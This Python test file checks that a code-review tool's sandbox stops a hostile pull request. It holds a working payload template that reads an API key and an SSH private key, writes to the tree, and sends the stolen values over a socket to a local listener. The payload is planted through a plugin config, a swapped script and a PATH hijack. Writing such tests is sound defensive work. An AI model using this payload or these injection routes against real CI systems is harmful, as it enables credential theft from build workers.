"""The change under review is untrusted: a pull request plays the attacker.

Each test builds a real git repository whose BASE commit holds the roster
(``council.toml``, trusted) and whose head is the pull request, then runs ``council
review`` (embedded mode, in this process) as CI would, with a provider's key and a home
holding ``~/.ssh`` in the worker's environment. The pull request tries what it can do on
a council without a sandbox: hand an analyzer a config that loads the change's plugin,
swap the script the roster's ``args`` run, plant a ``bin/`` that a relative PATH entry
finds. What it stole would leave through the program's stderr, which the report posts.
"""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from tests.gitrepo import git
from tests.sandboxing import bwrap_or_skip, tcp_listener
from workers.cli import main

SECRET = "council-test-provider-value-0042"
"""The worker's OPENAI_API_KEY here: no secret shape, so a leak is not masked and shows."""

HOME_KEY = "PRIVATE KEY OF THE WORKER 7f3a"
"""What the worker's ``~/.ssh/id_ed25519`` holds."""

ROUND = "[council]\nbackstop_ms = 60000\nidle_ms = 60000\n"


@pytest.fixture(autouse=True)
def bwrap_works() -> None:
    """These attacks are stopped by the sandbox: skip (outside CI) where it cannot run."""
    bwrap_or_skip()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """The worker's home, with a private key in ~/.ssh."""
    path = tmp_path / "home"
    (path / ".ssh").mkdir(parents=True)
    (path / ".ssh" / "id_ed25519").write_text(HOME_KEY + "\n")
    return path


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on this machine's 127.0.0.1, where stolen values would be sent."""
    with tcp_listener() as found:
        yield found


def two_commits(
    path: Path,
    base: Mapping[str, str],
    change: Mapping[str, str],
    executable: tuple[str, ...] = (),
) -> str:
    """A repository at ``path``: commit ``base`` (the files named in ``executable`` with
    mode 100755), then the pull request ``change`` on top. Returns the base sha."""
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    for files, message in ((base, "base"), (change, "the pull request")):
        for name, text in files.items():
            target = path / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
            if name in executable:
                target.chmod(0o755)
        git(path, "add", "-A")
        git(path, "commit", "-q", "-m", message)
        if message == "base":
            base_sha = git(path, "rev-parse", "HEAD")
    return base_sha


def review(repo: Path, base: str, tmp_path: Path, env: Mapping[str, str | None]) -> Result:
    """``council review`` of base..HEAD with the base tree's roster, as CI runs it."""
    argv = [
        "review",
        "--repo",
        str(repo),
        "--base",
        base,
        "--state",
        str(tmp_path / "state.json"),
        "--json",
        str(tmp_path / "report.json"),
        "--fail-on",
        "never",
        "--no-progress",
    ]
    return CliRunner().invoke(main, argv, env=dict(env))


def outcome(tmp_path: Path, done: Result) -> tuple[dict[str, Any], str]:
    """The JSON report and everything printed (the Markdown report, stderr)."""
    assert done.exit_code in (0, 3), done.output
    report: dict[str, Any] = json.loads((tmp_path / "report.json").read_text())
    return report, done.output + json.dumps(report)


def worker_env(home: Path) -> dict[str, str | None]:
    """The worker's environment: a provider's key, a home with ~/.ssh."""
    return {"OPENAI_API_KEY": SECRET, "HOME": str(home)}


STEAL = """\
import os, socket, sys
stolen = {{"provider": os.environ.get("OPENAI_API_KEY")}}
for name, path in (("home", "~/.ssh/id_ed25519"), ("abs", {ssh!r})):
    try:
        stolen[name] = open(os.path.expanduser(path)).read().strip()
    except OSError:
        stolen[name] = None
try:
    open("planted.txt", "w").write("x")
    stolen["wrote"] = True
except OSError:
    stolen["wrote"] = False
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.1", {port}))
    s.sendall(str(stolen).encode())
    stolen["net"] = True
except OSError:
    stolen["net"] = False
sys.stderr.write("LEAK " + " ".join(f"{{k}}={{v}}" for k, v in stolen.items()) + "\\n")
sys.exit(3)
"""
"""The pull request's payload: what it reads, writes and sends, told on stderr."""

CAUGHT = "LEAK provider=None home=None abs=None wrote=False net=False"
"""What the payload can tell from inside the sandbox: nothing got, nothing done."""


ANALYZER = f"""\
#!{sys.executable}
# A tiny analyzer that, like mypy with `plugins =` in mypy.ini, imports the plugins its
# config file in the working directory names.
import configparser, json, runpy
config = configparser.ConfigParser()
config.read("analyzer.ini")
for plugin in config.get("analyzer", "plugins", fallback="").split(","):
    if plugin.strip():
        runpy.run_path(plugin.strip())
print(json.dumps({{"findings": []}}))
"""


def test_a_config_in_the_change_that_loads_its_plugin_gets_nothing(
    tmp_path: Path, home: Path, listener: tuple[int, list[bytes]]
) -> None:
    """The roster (base) runs an analyzer; the change adds the analyzer's config naming a
    plugin of its own. The plugin runs, in the sandbox: no key, no home, no write to the
    tree, no connection out."""
    port, received = listener
    ssh = str(home / ".ssh" / "id_ed25519")
    roster = ROUND + '[[reviewers]]\nid = "analyzer"\nbackend = "command"\n'
    roster += 'program = "tools/analyzer.py"\n'
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "tools/analyzer.py": ANALYZER, "app.py": "x = 1\n"},
        {
            "analyzer.ini": "[analyzer]\nplugins = evil_plugin.py\n",
            "evil_plugin.py": STEAL.format(ssh=ssh, port=port),
            "app.py": "x = 2\n",
        },
        executable=("tools/analyzer.py",),
    )
    report, text = outcome(tmp_path, review(repo, base, tmp_path, worker_env(home)))
    failure = {p["id"]: p.get("failure", "") for p in report["participants"]}["analyzer"]
    assert CAUGHT in failure
    assert SECRET not in text and HOME_KEY not in text
    assert received == []


@pytest.mark.skipif(
    not (Path(sys.executable).parent / "mypy").is_file(), reason="mypy is not installed here"
)
@pytest.mark.parametrize("config_from", ["head", "base"])
def test_real_mypy_loads_the_changes_plugin_in_the_sandbox(
    tmp_path: Path, home: Path, listener: tuple[int, list[bytes]], config_from: str
) -> None:
    """The same with real mypy: the change adds ``mypy.ini`` with ``plugins =
    evil_plugin.py``. With ``config_from = "head"`` mypy imports it (in the sandbox), and
    it gets nothing; by default (``"base"``) the added ``mypy.ini`` is not in mypy's
    tree at all, so the plugin never runs."""
    port, received = listener
    mypy = Path(sys.executable).parent / "mypy"
    roster = ROUND + '[[reviewers]]\nid = "mypy"\nbackend = "command"\n'
    roster += f'program = "{mypy}"\nconfig_from = "{config_from}"\n'
    roster += 'args = ["--cache-dir", "/tmp/mypy-cache", "app.py"]\n'
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "app.py": "x = 1\n"},
        {
            "mypy.ini": "[mypy]\nplugins = evil_plugin.py\n",
            "evil_plugin.py": STEAL.format(ssh=str(home / ".ssh" / "id_ed25519"), port=port),
            "app.py": "x = 2\n",
        },
    )
    report, text = outcome(tmp_path, review(repo, base, tmp_path, worker_env(home)))
    failure = {p["id"]: p.get("failure", "") for p in report["participants"]}["mypy"]
    if config_from == "base":
        assert "LEAK" not in text
    else:
        assert CAUGHT in failure
    assert SECRET not in text and HOME_KEY not in text
    assert received == []


def _finding(subject: str) -> str:
    answer = {"findings": [{"subject": subject, "label": "issue"}]}
    return f"import json\nprint(json.dumps({answer!r}))\n"


def test_args_naming_a_script_of_the_repository_run_the_base_version(
    tmp_path: Path, home: Path, listener: tuple[int, list[bytes]]
) -> None:
    """``program = python``, ``args = ["tools/rev.py"]``: the change rewrites
    ``tools/rev.py``; the base version runs (the entry names a file of the base tree, so
    it is shipped like a relative program), and the change's never does."""
    port, _ = listener
    roster = ROUND + '[[reviewers]]\nid = "rev"\nbackend = "command"\n'
    roster += f'program = "{sys.executable}"\nargs = ["tools/rev.py"]\n'
    payload = STEAL.format(ssh=str(home / ".ssh" / "id_ed25519"), port=port)
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "tools/rev.py": _finding("the base reviewer ran")},
        {"tools/rev.py": _finding("the change's reviewer ran") + payload},
    )
    report, text = outcome(tmp_path, review(repo, base, tmp_path, worker_env(home)))
    assert [f["subject"] for f in report["findings"]] == ["the base reviewer ran"]
    assert "the change's reviewer ran" not in text and "LEAK" not in text
    assert SECRET not in text


def test_args_naming_a_file_only_the_change_adds_are_refused(tmp_path: Path, home: Path) -> None:
    """A roster naming a script the base does not have: the change would supply it, so
    the round is refused with the field and the fix, and nothing runs."""
    roster = ROUND + '[[reviewers]]\nid = "rev"\nbackend = "command"\n'
    roster += f'program = "{sys.executable}"\nargs = ["tools/rev.py"]\n'
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "app.py": "x = 1\n"},
        {"tools/rev.py": _finding("the change's reviewer ran")},
    )
    done = review(repo, base, tmp_path, worker_env(home))
    assert done.exit_code == 2, done.output
    assert "reviewers[0].args[0]" in done.output and "the change under review adds" in done.output


@pytest.mark.parametrize("how", ["program", "wrapper"])
def test_a_relative_path_entry_never_finds_the_changes_bin(
    tmp_path: Path,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    listener: tuple[int, list[bytes]],
    how: str,
) -> None:
    """The worker's PATH has a relative entry (``bin``) before the real ``mylint``; CI
    runs in the checkout of the pull request, which adds ``bin/mylint``. Neither the
    roster's bare ``mylint`` (found on the worker: the installed one runs) nor a
    wrapper's call of it in the tree (the sandbox shows only system directories, so it
    finds none) runs the change's one."""
    port, _ = listener
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "mylint").write_text(f"#!{sys.executable}\n" + _finding("the installed mylint ran"))
    (tools / "mylint").chmod(0o755)
    sh = shutil.which("sh") or "/bin/sh"
    entry = 'program = "mylint"\n' if how == "program" else f'program = "{sh}"\n'
    entry += 'args = ["-c", "mylint"]\n' if how == "wrapper" else ""
    roster = ROUND + '[[reviewers]]\nid = "lint"\nbackend = "command"\n' + entry
    payload = STEAL.format(ssh=str(home / ".ssh" / "id_ed25519"), port=port)
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "app.py": "x = 1\n"},
        {"bin/mylint": f"#!{sys.executable}\n" + payload, "app.py": "x = 2\n"},
        executable=("bin/mylint",),
    )
    monkeypatch.chdir(repo)  # the pull request's checkout
    env = {**worker_env(home), "PATH": f"bin:{tools}:/usr/bin:/bin"}
    report, text = outcome(tmp_path, review(repo, base, tmp_path, env))
    assert "LEAK" not in text and SECRET not in text
    if how == "program":
        assert [f["subject"] for f in report["findings"]] == ["the installed mylint ran"]
    else:
        (lint,) = report["participants"]
        assert lint["state"] == "failed" and "mylint: not found" in lint["failure"]


RECORDER = f"""\
#!/bin/sh
{Path(sys.executable).parent / "council"} record --json \
  '{{"subject": "recorded from the sandbox", "label": "issue"}}' || exit 9
echo '{{"findings": []}}'
"""


@pytest.mark.skipif(
    not (Path(sys.executable).parent / "council").is_file(), reason="council is not installed"
)
def test_council_record_from_inside_the_sandbox_reaches_the_report(
    tmp_path: Path, home: Path
) -> None:
    """A reviewer that records with ``council record``: its finding is in the report
    (through the journal file; the sandbox has no network and no Redis URL)."""
    roster = ROUND + '[[reviewers]]\nid = "rec"\nbackend = "command"\nprogram = "tools/rec.sh"\n'
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "tools/rec.sh": RECORDER, "app.py": "x = 1\n"},
        {"app.py": "x = 2\n"},
        executable=("tools/rec.sh",),
    )
    report, _ = outcome(tmp_path, review(repo, base, tmp_path, worker_env(home)))
    assert [f["subject"] for f in report["findings"]] == ["recorded from the sandbox"]


# -- where bubblewrap is missing --------------------------------------------------------------

PROBE = f"#!{sys.executable}\n" + _finding("the reviewer ran")


def _probe_repo(tmp_path: Path, head: str = ROUND) -> tuple[Path, str]:
    roster = head + '[[reviewers]]\nid = "probe"\nbackend = "command"\nprogram = "tools/p.py"\n'
    repo = tmp_path / "repo"
    base = two_commits(
        repo,
        {"council.toml": roster, "tools/p.py": PROBE, "app.py": "x = 1\n"},
        {"app.py": "x = 2\n"},
        executable=("tools/p.py",),
    )
    return repo, base


def test_without_bubblewrap_in_ci_the_reviewer_fails_naming_the_package(
    tmp_path: Path, home: Path
) -> None:
    """CI set, no bubblewrap (COUNCIL_BWRAP names none): the reviewer fails and says
    which package to install; nothing ran unsandboxed."""
    repo, base = _probe_repo(tmp_path)
    env = {**worker_env(home), "CI": "true", "COUNCIL_BWRAP": str(tmp_path / "nonexistent")}
    done = review(repo, base, tmp_path, env)
    report, _ = outcome(tmp_path, done)
    (probe,) = report["participants"]
    assert probe["state"] == "failed"
    assert "apt-get install bubblewrap" in probe["failure"] and "in CI" in probe["failure"]
    assert report["findings"] == []


def test_without_bubblewrap_on_a_laptop_the_report_says_so_first(
    tmp_path: Path, home: Path
) -> None:
    """Embedded mode outside CI, no bubblewrap: the reviewer runs, and the report's first
    lines say it ran unsandboxed."""
    repo, base = _probe_repo(tmp_path)
    env = {**worker_env(home), "CI": None, "COUNCIL_BWRAP": str(tmp_path / "nonexistent")}
    done = review(repo, base, tmp_path, env)
    report, _ = outcome(tmp_path, done)
    assert [f["subject"] for f in report["findings"]] == ["the reviewer ran"]
    assert report["notes"][0].startswith("reviewer programs ran WITHOUT a sandbox (probe)")
    markdown = done.stdout.splitlines()
    assert markdown[4].startswith("**Not sandboxed:** reviewer programs ran WITHOUT a sandbox")
    assert "apt-get install bubblewrap" in markdown[4]


def test_roster_sandbox_required_fails_without_bubblewrap_on_a_laptop_too(
    tmp_path: Path, home: Path
) -> None:
    """``[council] sandbox = "required"``: outside CI too, no sandbox is a failure."""
    repo, base = _probe_repo(tmp_path, head=ROUND + 'sandbox = "required"\n')
    env = {**worker_env(home), "CI": None, "COUNCIL_BWRAP": str(tmp_path / "nonexistent")}
    report, _ = outcome(tmp_path, review(repo, base, tmp_path, env))
    (probe,) = report["participants"]
    assert probe["state"] == "failed" and 'sandbox = "required"' in probe["failure"]
